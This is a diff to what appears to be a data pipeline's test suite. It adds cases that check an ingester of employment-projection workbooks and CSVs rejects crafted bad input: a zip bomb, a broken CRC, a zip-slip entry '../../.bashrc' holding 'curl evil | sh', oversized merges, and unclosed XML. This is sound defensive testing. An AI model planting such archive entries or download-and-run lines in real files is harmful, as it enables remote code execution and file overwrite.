@@ -14,7 +14,9 @@ import Papa from 'papaparse';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { main } from '../../pipeline/cli.ts';
 import { listRuns } from '../../pipeline/history.ts';
+import { openZipArchive } from '../../sources/tabular/zip-archive.ts';
 import { captureIO, FIXTURES, snapshot, tempDir } from '../helpers.ts';
+import { type CraftedEntry, craftZip, deflated, spacesStream, stored } from '../zip-craft.ts';
 
 const PROJECTIONS = 'projections_state/ca_edd_2023_2033/ca_edd_longterm_2023_2033_statewide.csv';
 const SOURCES = {
@@ -44,7 +46,7 @@ function withCells(row: number, cells: Record<number, string>): string {
 const withCell = (row: number, column: number, value: string) =>
   withCells(row, { [column]: value });
 /** Projections columns by position (CA EDD layout). */
-const COL = { code: 1, title: 2, base: 3, projected: 4, change: 5, exits: 7, annual: 11 };
+const COL = { code: 1, title: 2, base: 3, projected: 4, change: 5, pct: 6, exits: 7, annual: 11 };
 /** Software Developers, 15-1252: row 6 of the mini projections file. */
 const ROW = 6;
 
@@ -55,6 +57,34 @@ async function workbook(data: string[][], sheet = 'Occupational'): Promise<Buffe
     ws.addRow(r.map((c, i) => (i >= 3 && c !== '' && !Number.isNaN(Number(c)) ? Number(c) : c)));
   return Buffer.from(await wb.xlsx.writeBuffer());
 }
+
+const SHEET = 'xl/worksheets/sheet1.xml';
+
+/**
+ * The mini projections as a workbook, re-packed entry by entry (deflated, honest sizes and
+ * CRCs) after `edit` has had its way with the entries: the zip layer's cases start from here.
+ */
+async function repacked(edit: (entries: CraftedEntry[]) => CraftedEntry[]): Promise<Buffer> {
+  const zip = openZipArchive(await workbook(rows('projections')), 'mini.xlsx');
+  return craftZip(edit(zip.names.map((name) => deflated(name, zip.read(name) as Buffer))));
+}
+
+/** The sheet's XML edited, the entry re-packed honestly (its CRC and size match the new bytes). */
+const withSheet = (edit: (xml: string) => string) =>
+  repacked((entries) =>
+    entries.map((e) =>
+      e.name === SHEET
+        ? deflated(
+            SHEET,
+            edit(
+              openZipArchive(craftZip([e]), 'x')
+                .read(SHEET)
+                ?.toString() ?? '',
+            ),
+          )
+        : e,
+    ),
+  );
 
 interface Case {
   name: string;
@@ -315,6 +345,194 @@ const CASES: Case[] = [
       return workbook(r);
     },
     says: ['sheet "Occupational"', `row ${ROW}`, 'looks like a spreadsheet formula'],
+  },
+  {
+    name: 'a workbook whose directory says 1,000 bytes for a sheet that inflates to 1 GiB',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () =>
+      repacked((entries) =>
+        entries.map((e) => (e.name === SHEET ? { ...e, data: spacesStream(1024), size: 1000 } : e)),
+      ),
+    says: [`zip entry "${SHEET}"`, 'inflates to more than 1,001 bytes', 'declares 1,000'],
+  },
+  {
+    name: 'a workbook with one digit of a wage changed after zipping (stored sheet, CRC kept)',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () =>
+      repacked((entries) =>
+        entries.map((e) => {
+          if (e.name !== SHEET) return e;
+          const xml =
+            openZipArchive(craftZip([e]), 'x')
+              .read(SHEET)
+              ?.toString() ?? '';
+          expect(xml).toContain('<v>166400</v>');
+          const honest = stored(SHEET, xml);
+          return { ...honest, data: Buffer.from(xml.replace('<v>166400</v>', '<v>966400</v>')) };
+        }),
+      ),
+    says: [`zip entry "${SHEET}"`, 'its CRC-32 is', 'but the zip directory declares'],
+  },
+  {
+    name: 'a workbook holding an entry that climbs out of the archive',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () => repacked((entries) => [...entries, stored('../../.bashrc', 'curl evil | sh')]),
+    says: ['zip entry "../../.bashrc"', 'climbs out with ".."'],
+  },
+  {
+    name: 'a workbook cell pointing past the shared strings',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () => withSheet((xml) => xml.replace(/(<c r="C6"[^>]*t="s"[^>]*><v>)\d+/, '$199999')),
+    says: ['cell C6 of sheet "Occupational" points to shared string 99999'],
+  },
+  {
+    name: 'a workbook number cell holding "800abc"',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () => withSheet((xml) => xml.replace(/(<c r="D6"[^>]*><v>)800</, '$1800abc<')),
+    says: ['sheet "Occupational"', `row ${ROW}`, 'value "800abc"', 'expected a number'],
+  },
+  {
+    name: 'a workbook whose shared strings hold a Windows-1252 byte',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () =>
+      repacked((entries) =>
+        entries.map((e) => {
+          if (e.name !== 'xl/sharedStrings.xml') return e;
+          const xml = openZipArchive(craftZip([e]), 'x').read(e.name) as Buffer;
+          const at = xml.indexOf('Software Developers');
+          expect(at).toBeGreaterThan(0);
+          // "Software Développeurs" as Windows-1252 writes it: é is the single byte 0xE9.
+          const latin1 = Buffer.from('Software D\xe9veloppeurs', 'latin1');
+          const edited = Buffer.concat([xml.subarray(0, at), latin1, xml.subarray(at + 19)]);
+          return deflated(e.name, edited);
+        }),
+      ),
+    says: [
+      'as an Excel workbook',
+      'its part "xl/sharedStrings.xml" is not UTF-8 text (byte 0xE9 at offset',
+    ],
+  },
+  {
+    name: 'a workbook merging the whole sheet (17 billion cells)',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () =>
+      withSheet((xml) =>
+        xml.replace(
+          '</worksheet>',
+          '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>',
+        ),
+      ),
+    says: ['the merged cells A1:XFD1048576 of sheet "Occupational"'],
+  },
+  {
+    name: 'a workbook cell past the last column',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () => withSheet((xml) => xml.replace('r="D6"', 'r="ZZZZZZ6"')),
+    says: ['cell ZZZZZZ6 of sheet "Occupational" lies past Excel\'s columns'],
+  },
+  {
+    name: 'a workbook with a character reference past Unicode',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () =>
+      repacked((entries) =>
+        entries.map((e) => {
+          if (e.name !== 'xl/sharedStrings.xml') return e;
+          const xml =
+            openZipArchive(craftZip([e]), 'x')
+              .read(e.name)
+              ?.toString() ?? '';
+          return deflated(e.name, xml.replace('Software Developers', 'Software &#99999999;'));
+        }),
+      ),
+    says: ['as an Excel workbook', 'it holds the character reference &#99999999;'],
+  },
+  // Before the XML checks, each of these took minutes: a lazy pattern scanned to the end of
+  // the sheet once per unclosed tag.
+  {
+    name: 'a workbook sheet with a megabyte of tags that never end',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () =>
+      withSheet((xml) => xml.replace('</sheetData>', `${'<row '.repeat(200_000)}</sheetData>`)),
+    says: [`its part "${SHEET}" is not well-formed XML`, 'does not end'],
+  },
+  {
+    name: 'a workbook sheet with 100,000 rows opened and never closed',
+    input: 'projections',
+    ext: 'xlsx',
+    build: () =>
+      withSheet((xml) => xml.replace('</sheetData>', `${'<row r="9"><c r="A9">'.repeat(100_000)}`)),
+    says: ['its XML opens <row> at character', 'never closes it'],
+  },
+  // ---- numbers checked, not trusted
+  ...['302500abc', '0,176', '1,23,456', '1.2.3', '--5', '1e999', 'Infinity', 'NaN', '0x10'].map(
+    (value): Case => ({
+      name: `"${value}" as base employment`,
+      input: 'projections',
+      ext: 'csv',
+      build: () => withCell(ROW, COL.base, value),
+      says: [`row ${ROW}`, `value "${value}"`, 'expected a number'],
+    }),
+  ),
+  {
+    name: 'a percent sign in a column of fractions',
+    input: 'projections',
+    ext: 'csv',
+    build: () => withCell(ROW, COL.pct, '17.55%'),
+    says: [`row ${ROW}`, 'value "17.55%"', 'does not hold percents'],
+  },
+  {
+    name: 'a percent change that disagrees with base and projected',
+    input: 'projections',
+    ext: 'csv',
+    build: () => withCell(ROW, COL.pct, '0.02'),
+    says: [`row ${ROW}`, '(projected − base) / base = percent change does not hold'],
+  },
+  {
+    name: 'a row with more fields than its header (an unquoted comma in a title)',
+    input: 'projections',
+    ext: 'csv',
+    build: () => text('projections').replace('Software Developers', 'Software, Developers'),
+    says: [`row ${ROW}`, 'the row has 16 fields but the header has 15'],
+  },
+  {
+    name: 'a duplicated total row',
+    input: 'projections',
+    ext: 'csv',
+    build: () => {
+      const r = rows('projections');
+      r.splice(2, 0, [...(r[1] as string[])]);
+      return csv(r);
+    },
+    says: ['row 3', 'value "00-0000"', 'appears again (first at row 2)'],
+  },
+  {
+    name: 'a title of a megabyte',
+    input: 'projections',
+    ext: 'csv',
+    build: () => withCell(ROW, COL.title, 'Software Developers '.repeat(52_429)),
+    says: [`row ${ROW}`, 'column "Occupational Title[3]"', 'over the limit of 10,000'],
+  },
+  {
+    name: '200,000 rows that each break the change identity',
+    input: 'projections',
+    ext: 'csv',
+    build: () => {
+      const [header, total] = rows('projections') as string[][];
+      const bad = (i: number) =>
+        `4,${String(11 + Math.floor(i / 10000)).padStart(2, '0')}-${String(i % 10000).padStart(4, '0')},Occupation ${i},800,960,999,0.2,100,300,1399,80,166400,N/A,N/A,N/A`;
+      return `${csv([header as string[], total as string[]])}${Array.from({ length: 200_000 }, (_, i) => bad(i)).join('\n')}\n`;
+    },
+    says: ['200000 problems in the input data stop the run', '… and 199990 more'],
   },
   // ---- crosswalks and structure files
   {
